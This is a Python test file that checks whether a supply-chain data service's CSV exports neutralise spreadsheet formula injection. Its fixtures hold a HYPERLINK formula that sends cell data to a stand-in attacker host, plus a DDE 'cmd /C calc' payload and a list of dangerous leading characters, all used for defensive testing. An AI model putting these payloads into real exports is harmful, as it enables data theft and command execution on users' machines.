"""Tables for spreadsheets: what an enemy writes is no formula there, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from provolta.answers import Answer, Column
from provolta.names import GRAPH
from provolta.render import answer
from tests.mini_world import engine_of
from tests.web import client_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture(scope="module")
def hostile(world_root: Path) -> TestClient:
    """A server over a world in which the name of a company is a formula."""
    engine = engine_of(world_root)
    text = FORMULA.replace('"', '\\"')
    engine.load_text(
        f"""
        @prefix pv: <https://w3id.org/provolta/ontology#> .
        @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
        @prefix actor: <https://w3id.org/provolta/id/actor/> .
        @prefix relation: <https://w3id.org/provolta/id/relation/> .
        actor:evil a pv:Actor ; rdfs:label "{text}"@en ; pv:suppliesTo actor:acme-cells .
        relation:evil a pv:SupplyAgreement ; rdfs:label "{text}"@en ;
            pv:supplier actor:evil ; pv:customer actor:acme-cells ;
            pv:status <https://w3id.org/provolta/id/status/named> .
        """,
        graph=GRAPH + "sources/evil",
    )
    return client_of(engine, world_root)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_number(cell: str) -> bool:
    return cell.removeprefix("-").replace(".", "", 1).isdigit()


@pytest.mark.parametrize(
    "route",
    [
        "/api/v1/entities.csv?q=hyperlink",
        "/entities?q=hyperlink&format=csv",
        "/api/v1/lineage.csv?entity=acme-cells&layer=supply",
        "/api/v1/impact.csv?entity=actor:evil",
        "/api/v1/why.csv?to=acme-cells&from=actor:evil",
        "/api/v1/concentration.csv?of=item:lumium",
        "/api/v1/bottlenecks.csv",
        "/api/v1/depends.csv?entity=acme-cells",
        "/questions/suppliers-of-company?buyer=acme-cells&format=csv",
        "/api/v1/questions/suppliers-of-company.csv?buyer=acme-cells",
    ],
)
def test_no_cell_of_a_download_is_a_formula(hostile: TestClient, route: str) -> None:
    given = hostile.get(route)
    assert given.status_code == 200, given.text
    assert given.headers["content-type"].startswith("text/csv")
    begun = [cell for cell in cells(given.text) if cell.startswith(STARTS)]
    assert [cell for cell in begun if not is_number(cell)] == []


def test_the_name_is_told_whole_behind_an_apostrophe(hostile: TestClient) -> None:
    assert "'" + FORMULA in cells(hostile.get("/api/v1/entities.csv?q=hyperlink").text)


def test_results_of_the_protocol_are_as_the_standard_has_them(hostile: TestClient) -> None:
    query = "SELECT ?label { <https://w3id.org/provolta/id/actor/evil> ?p ?label }"
    given = hostile.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert FORMULA in cells(given.text)


@pytest.mark.parametrize("start", STARTS)
def test_a_text_with_any_dangerous_start_is_kept_a_text(start: str) -> None:
    found = Answer("t", (Column("a"), Column("=b")), ((start + "cmd|' /C calc'!A0", "fine"),))
    head, row = csv.reader(io.StringIO(answer(found, "csv"), newline=""))
    assert head == ["a", "'=b"]
    assert row == ["'" + start + "cmd|' /C calc'!A0", "fine"]


@pytest.mark.parametrize("value", [-5.5, 1e-7, -3, 0, "-5.5", "+12", "-1e3", "-.5", "2024-06", ""])
def test_numbers_and_dates_stay_what_they_are(value: float | str) -> None:
    found = Answer("t", (Column("a"),), ((value,),))
    assert answer(found, "csv").splitlines()[1] == str(value)


@pytest.mark.parametrize("text", ["-5+cmd", "-5 t", "--5", "+1 555", "-", "=5", "-1e", "+١"])
def test_what_only_begins_like_a_number_is_a_text(text: str) -> None:
    found = Answer("t", (Column("a"),), ((text,),))
    assert answer(found, "csv").splitlines()[1] == "'" + text
